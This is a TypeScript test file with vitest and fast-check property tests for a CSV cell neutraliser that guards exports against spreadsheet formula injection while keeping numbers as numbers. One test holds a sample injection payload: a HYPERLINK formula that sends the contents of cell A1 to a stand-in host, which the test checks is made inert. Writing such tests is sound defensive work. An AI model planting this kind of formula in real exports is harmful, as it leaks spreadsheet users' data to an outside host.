import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvFormulaTriggers, csvNumber, neutraliseCsvCell, startsAsFormula } from './neutralise';

const trigger = fc.constantFrom(...csvFormulaTriggers);

describe('neutraliseCsvCell', () => {
  it('prefixes a single quote to any text starting with a formula character', () => {
    fc.assert(
      fc.property(trigger, fc.string(), (first, rest) => {
        const text = first + rest;
        expect(neutraliseCsvCell(text)).toBe(`'${text}`);
      }),
    );
  });

  it('leaves any other text exactly as it is', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        fc.pre(!csvFormulaTriggers.includes(text.charAt(0)));
        expect(neutraliseCsvCell(text)).toBe(text);
      }),
    );
  });

  it('never writes a cell that a spreadsheet reads as a formula, unless it is a plain number', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.double(), fc.integer(), fc.string().map(csvNumber)), (value) => {
        const cell = neutraliseCsvCell(value);
        if (startsAsFormula(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
      }),
    );
  });

  it('writes numbers as numbers: a negative amount stays a number', () => {
    fc.assert(
      fc.property(fc.integer({ min: -1e12, max: 1e12 }), (cents) => {
        const amount = (cents / 100).toFixed(2);
        expect(neutraliseCsvCell(csvNumber(amount))).toBe(amount);
        expect(neutraliseCsvCell(Number(amount))).toBe(String(Number(amount)));
      }),
    );
    expect(neutraliseCsvCell(-1234.5)).toBe('-1234.5');
    expect(neutraliseCsvCell(csvNumber('-1234.50'))).toBe('-1234.50');
    expect(neutraliseCsvCell(1e21)).toBe('1000000000000000000000');
  });

  it('treats text marked as a number that is not a plain number as text', () => {
    expect(neutraliseCsvCell(csvNumber('-1+1'))).toBe("'-1+1");
    expect(neutraliseCsvCell(csvNumber('=1'))).toBe("'=1");
    expect(neutraliseCsvCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
  });

  it('makes a HYPERLINK client name inert and keeps empty cells empty', () => {
    expect(neutraliseCsvCell('=HYPERLINK("http://x.example/?a="&A1,"Click")')).toBe(
      `'=HYPERLINK("http://x.example/?a="&A1,"Click")`,
    );
    expect(neutraliseCsvCell('-')).toBe("'-");
    expect(neutraliseCsvCell('')).toBe('');
    expect(neutraliseCsvCell(null)).toBe('');
    expect(neutraliseCsvCell(undefined)).toBe('');
  });
});
